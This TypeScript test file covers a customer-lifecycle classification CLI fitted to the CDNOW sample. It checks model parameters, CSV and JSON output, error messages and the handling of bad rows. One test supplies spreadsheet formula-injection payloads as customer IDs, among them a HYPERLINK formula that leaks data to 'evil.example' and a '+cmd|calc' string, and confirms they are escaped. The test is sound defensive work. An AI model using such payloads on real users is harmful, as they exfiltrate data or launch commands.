/** The `classify` command as a user runs it: real process, real files. */
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { STAGES_IN_LIFECYCLE_ORDER } from '../../src/classifier/types.ts';
import { CDNOW_CSV } from '../helpers.ts';
import { runCli } from './run.ts';

const dir = mkdtempSync(join(tmpdir(), 'lcs-cli-'));
const file = (name: string, text: string) => {
  const path = join(dir, name);
  writeFileSync(path, text);
  return path;
};

const customerShape = z
  .object({
    customerId: z.string(),
    stage: z.enum(STAGES_IN_LIFECYCLE_ORDER as [string, ...string[]]),
    reason: z.string().min(1),
    frequency: z.number().int().min(0),
    recency: z.number().min(0),
    T: z.number().min(0),
    pAlive: z.number().min(0).max(1).nullable(),
    churnRisk: z.number().min(0).max(100).nullable(),
    expectedPurchases: z.number().min(0).nullable(),
    clv: z.number().nullable(),
    ltv: z.number(),
    valueTier: z.enum(['top', 'middle', 'bottom']).nullable(),
  })
  .passthrough();

const outputShape = z.object({
  asOf: z.string().regex(/^\d{4}-\d{2}-\d{2}$/),
  timeUnit: z.enum(['day', 'week']),
  model: z.object({ name: z.string(), params: z.record(z.string(), z.number()), logLikelihood: z.number().nullable(), converged: z.boolean() }).passthrough(),
  spendModel: z.object({ name: z.literal('gamma_gamma'), params: z.object({ p: z.number(), q: z.number(), gamma: z.number() }), logLikelihood: z.number() }).passthrough().nullable(),
  summary: z.object({ customers: z.number(), stages: z.record(z.string(), z.number()) }).passthrough(),
  customers: z.array(customerShape),
});

describe('lifecycle-sync classify', () => {
  it('classifies the CDNOW sample to the documented JSON shape with the published Pareto/NBD fit', async () => {
    const r = await runCli(['classify', '--transactions', CDNOW_CSV, '--as-of', '1997-09-30']);
    expect(r.code, r.stderr).toBe(0);
    const out = outputShape.parse(JSON.parse(r.stdout));
    expect(out.asOf).toBe('1997-09-30');
    expect(out.timeUnit).toBe('week');
    expect(out.model.name).toBe('pareto_nbd');
    expect(Object.keys(out.model.params)).toEqual(['r', 'alpha', 's', 'beta']);
    expect(out.model.params.r).toBeCloseTo(0.553, 2);
    expect(out.model.converged).toBe(true);
    expect(out.spendModel?.params.p).toBeCloseTo(6.25, 1);
    expect(out.customers).toHaveLength(2357);
    expect(out.summary.customers).toBe(2357);
    expect(Object.values(out.summary.stages).reduce((a, b) => a + b, 0)).toBe(2357);
    const first = out.customers.find((c) => c.customerId === '0001');
    expect(first).toMatchObject({ frequency: 2, recency: 30.4286, T: 38.8571 });
    expect(first?.reason).toMatch(/^3 purchases, last 59 days ago; \d+ % likely still active → /);
    // rows after the as-of date were counted, not used
    expect(r.stderr).toMatch(/classified 2357 customers as of 1997-09-30 with pareto_nbd; 4\d{3} rows used, 0 skipped, \d+ after the as-of date/);
  });

  it('honours --model, --time-unit, --expected-days, --horizon-months and --discount-rate', async () => {
    const out = join(dir, 'bg.json');
    const r = await runCli(['classify', '--transactions', CDNOW_CSV, '--as-of', '1997-09-30', '--model', 'bg_nbd', '--time-unit', 'day', '--expected-days', '30', '--horizon-months', '6', '--discount-rate', '0', '--output', out]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toBe('');
    const parsed = outputShape.parse(JSON.parse(readFileSync(out, 'utf8')));
    expect(parsed.model.name).toBe('bg_nbd');
    expect(Object.keys(parsed.model.params)).toEqual(['r', 'alpha', 'a', 'b']);
    expect(parsed.timeUnit).toBe('day');
    // alpha is a time scale: in days it is seven times the weekly value (4.414 weeks)
    expect(parsed.model.params.alpha).toBeCloseTo(4.414 * 7, 0);
    const first = parsed.customers.find((c) => c.customerId === '0001');
    expect(first?.T).toBe(272);
  });

  it('writes CSV with the same per-customer fields', async () => {
    const r = await runCli(['classify', '--transactions', CDNOW_CSV, '--format', 'csv']);
    expect(r.code, r.stderr).toBe(0);
    const parsed = Papa.parse<Record<string, string>>(r.stdout.trim(), { header: true });
    expect(parsed.data).toHaveLength(2357);
    expect(parsed.meta.fields?.slice(0, 12)).toEqual(['customerId', 'stage', 'reason', 'frequency', 'recency', 'T', 'pAlive', 'churnRisk', 'expectedPurchases', 'clv', 'ltv', 'valueTier']);
    const row = parsed.data.find((d) => d.customerId === '0001');
    expect(row?.reason).toContain('purchases, last');
    expect(Number(row?.pAlive)).toBeGreaterThan(0);
  });

  it('writes a customer id that a spreadsheet would run as a formula as text (a leading quote)', async () => {
    const ids = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+cmd|calc', '@SUM(1+1)', '-2+3', 'plain'];
    const rows = ids.flatMap((id) => [[id, '2024-01-05', '10.5'], [id, '2024-03-01', '20']]);
    const path = file('formulas.csv', Papa.unparse({ fields: ['customer_id', 'date', 'amount'], data: rows }));
    const r = await runCli(['classify', '--transactions', path, '--as-of', '2024-06-01', '--format', 'csv']);
    expect(r.code, r.stderr).toBe(0);
    const parsed = Papa.parse<Record<string, string>>(r.stdout.trim(), { header: true });
    const written = parsed.data.map((d) => d.customerId).sort();
    expect(written).toEqual([...ids.filter((id) => id !== 'plain').map((id) => `'${id}`), 'plain'].sort());
    // Numeric columns stay numbers.
    for (const d of parsed.data) expect(d.ltv).toBe('30.5');
  });

  it('reports bad rows with their line numbers, skips them and says how many in the summary', async () => {
    const path = file('bad.csv', 'customer_id,date,amount\na,2024-01-01,10\nb,not-a-date,5\nc,2024-02-01,abc\na,2024-03-01,20\n');
    const r = await runCli(['classify', '--transactions', path]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toContain(`skipped ${path}:3: date "not-a-date" is not a date`);
    expect(r.stderr).toContain(`skipped ${path}:4: amount "abc" is not a number`);
    const out = JSON.parse(r.stdout) as { summary: { input: { skippedRows: number; validRows: number } }; customers: unknown[] };
    expect(out.summary.input).toMatchObject({ skippedRows: 2, validRows: 2 });
    expect(out.customers).toHaveLength(1);
  });

  it('--strict makes the first bad row fatal', async () => {
    const path = file('strict.csv', 'customer_id,date,amount\na,2024-01-01,10\nb,2024-13-01,5\n');
    const r = await runCli(['classify', '--transactions', path, '--strict']);
    expect(r.code).not.toBe(0);
    expect(r.stderr.trim().split('\n')).toEqual([`lifecycle-sync: ${path}:3: date "2024-13-01" is not a date (YYYY-MM-DD, YYYYMMDD or an ISO timestamp) (--strict stops at the first bad row)`]);
  });

  it.each([
    ['a missing file', ['--transactions', join(dir, 'missing.csv')], /^lifecycle-sync: transactions file not found: /],
    ['a missing column', ['--transactions', 'MISSING_COLUMN'], /^lifecycle-sync: .*missing column "amount" \(header has: customer_id, date, value\); name it with --amount-column$/],
    ['a file with no valid row', ['--transactions', 'NO_VALID_ROW'], /^lifecycle-sync: no valid transaction rows in .* \(2 rows: 2 bad\)$/],
    ['a bad --as-of', ['--transactions', CDNOW_CSV, '--as-of', '30/09/1997'], /--as-of must be a date as YYYY-MM-DD \(got "30\/09\/1997"\)/],
    ['a bad --model', ['--transactions', CDNOW_CSV, '--model', 'nbd'], /argument 'nbd' is invalid. Allowed choices are pareto_nbd, bg_nbd, mbg_nbd/],
  ])('exits non-zero with a one-line message, never a stack trace, for %s', async (_, args, message) => {
    const resolved = args.map((a) =>
      a === 'MISSING_COLUMN' ? file('cols.csv', 'customer_id,date,value\na,2024-01-01,1\n') : a === 'NO_VALID_ROW' ? file('none.csv', 'customer_id,date,amount\na,x,1\nb,2024-01-01,y\n') : a,
    );
    const r = await runCli(['classify', ...resolved]);
    expect(r.code).not.toBe(0);
    const lines = r.stderr.trim().split('\n').filter((l) => !l.startsWith('skipped ') && !l.startsWith('(add --help'));
    expect(lines[0]).toMatch(message);
    expect(r.stderr).not.toMatch(/\n\s+at /);
  });

  it('names a config error by file and key', async () => {
    const config = file('bad.yaml', 'classifier:\n  expectedDays: -3\n');
    const r = await runCli(['classify', '--transactions', CDNOW_CSV, '--config', config]);
    expect(r.code).not.toBe(0);
    expect(r.stderr.trim()).toBe(`lifecycle-sync: invalid config (${config}): classifier.expectedDays: must be a positive number of days (got -3)`);
  });
});

describe('lifecycle-sync demo (offline)', () => {
  it('prints a readable summary of the bundled demo data', async () => {
    const r = await runCli(['demo']);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain('Lifecycle summary as of 1998-06-30 — 2,357 people');
    expect(r.stdout).toMatch(/Model: pareto_nbd \(r=[\d.]+ alpha=[\d.]+ s=[\d.]+ beta=[\d.]+; log-likelihood -\d+\.\d; converged; unit week\)/);
    expect(r.stdout).toMatch(/Customers per stage[\s\S]*Loyalty\s+[\d,]+/);
    expect(r.stdout).toMatch(/Top 20 %\s+[\d,]+ customers/);
    expect(r.stdout).toMatch(/Simple LTV \(revenue ÷ customers in the period\): \$[\d,.]+/);
  });
});
